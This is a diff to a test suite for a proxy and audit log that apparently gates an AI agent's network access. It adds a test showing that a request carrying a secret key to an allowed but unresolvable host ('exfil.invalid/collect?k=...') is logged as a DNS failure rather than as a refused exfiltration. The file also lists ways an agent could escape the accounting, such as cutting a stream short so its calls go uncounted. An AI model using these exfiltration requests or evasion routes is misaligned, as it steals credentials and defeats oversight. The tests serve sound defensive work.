@@ -38,6 +38,10 @@ The holes, by class:
 - a record written only for a response passed on whole: a client that hangs
   up mid-stream (a cancelled turn, or an agent that wants its calls
   uncounted) leaves no ``model`` record and no tokens, though the API billed them;
+- an exfiltration try counted as a failure: a plain-HTTP request is judged by
+  its host before its placeholders are read, so a try sent to an allowed name
+  that does not resolve is recorded ``failed`` (dns), not as the refused
+  exfiltration try it is, and ``--fail-on refused`` passes;
 - a peer's malformed message escaping its connection: a chunk size that is
   not hexadecimal in the agent's request to a plain-HTTP gateway raises out of
   the proxy and ends it, every connection of the attempt with it.
@@ -176,6 +180,7 @@ async def wire(
     tokens: int | None = None,
     plain: bool = False,
     held: Held = anthropic_key,
+    allow: tuple[str, ...] = (),
 ) -> AsyncIterator[Wire]:
     """The real proxy, gate, audit log, model-call recorder and budget in front
     of a stand-in per handler (HTTPS with its own test CA trusted upstream, or
@@ -187,7 +192,8 @@ async def wire(
     async with trio.open_nursery() as nursery:
         for origin in origins:
             await nursery.start(serve_origin, origin)
-        patterns = tuple(parse_pattern(f"127.0.0.1:{o.port}") for o in origins)
+        hosts = (*(f"127.0.0.1:{o.port}" for o in origins), *allow)
+        patterns = tuple(parse_pattern(h) for h in hosts)
         rules = NetworkRules(enabled=True, allow=patterns, agent=patterns)
         ws = tmp_path / "ws"
         ws.mkdir()
@@ -718,3 +724,62 @@ async def test_a_streamed_model_call_read_to_its_end_is_recorded_with_its_tokens
         assert [c.usage.tokens for c in w.calls] == [{"input": 600, "output": 400}]
         status, _, _ = await ask(w, "POST", "/v1/messages", [("x-api-key", w.placeholder)], b"{}")
         assert status == 403
+
+
+# -- an exfiltration try counted as a failure -------------------------------------------
+
+
+def network_records(tmp_path: Path, host: str) -> list[dict[str, object]]:
+    lines = (tmp_path / "audit.jsonl").read_text().splitlines()
+    return [
+        r for r in map(json.loads, lines)
+        if r.get("kind") == "network" and r.get("subject", {}).get("host") == host
+    ]  # fmt: skip
+
+
+def exfiltration(host: str, placeholder: str) -> bytes:
+    return (
+        f"GET http://{host}/collect?k={placeholder} HTTP/1.1\r\nHost: {host}\r\n"
+        "Connection: close\r\n\r\n"
+    ).encode()
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason=(
+        "hole: an exfiltration try counted as a failure (class: a plain-HTTP request is judged "
+        "by its host first and its placeholders read after, so a try sent to an allowed name "
+        "that does not resolve is recorded `failed` (dns), never as an exfiltration try, and "
+        "`--fail-on refused` passes; mechanism: a request's placeholders are read before its "
+        "host is judged or looked up, and one not bound there is refused as its own record)"
+    ),
+)
+async def test_a_placeholder_sent_to_an_allowed_name_that_does_not_resolve_is_recorded_as_a_refused_exfiltration_try(
+    tmp_path: Path,
+) -> None:
+    async with wire(tmp_path, takes_anything, plain=True, allow=("exfil.invalid:80",)) as w:
+        answer = await plain_ask(w, exfiltration("exfil.invalid", w.placeholder))
+        assert answer.startswith(b"HTTP/1.1 403"), answer
+        records = network_records(tmp_path, "exfil.invalid")
+        assert records, "nothing recorded"
+        assert not any(r.get("failed") for r in records), records  # a refusal, not a failure
+        assert any("exfiltration" in str(r.get("reason")) for r in records), records
+
+
+async def test_a_placeholder_sent_to_an_allowed_host_that_resolves_is_refused_and_recorded_as_an_exfiltration_try(
+    tmp_path: Path,
+) -> None:
+    """The allowed neighbour of the refusal: the same try to an allowed host
+    that resolves (a second gateway, the key not bound to it) is refused and
+    recorded as the exfiltration try it is, nothing sent; without the
+    placeholder the same request is carried."""
+    async with wire(tmp_path, takes_anything, takes_anything, plain=True) as w:
+        other = f"127.0.0.1:{w.origins[1].port}"
+        answer = await plain_ask(w, exfiltration(other, w.placeholder))
+        assert answer.startswith(b"HTTP/1.1 403"), answer
+        assert w.origins[1].requests == []
+        records = network_records(tmp_path, "127.0.0.1")
+        refused = [r for r in records if "exfiltration" in str(r.get("reason"))]
+        assert refused and not any(r.get("failed") for r in refused), records
+        carried = await plain_ask(w, exfiltration(other, "nothing-secret"))
+        assert carried.startswith(b"HTTP/1.1 200"), carried
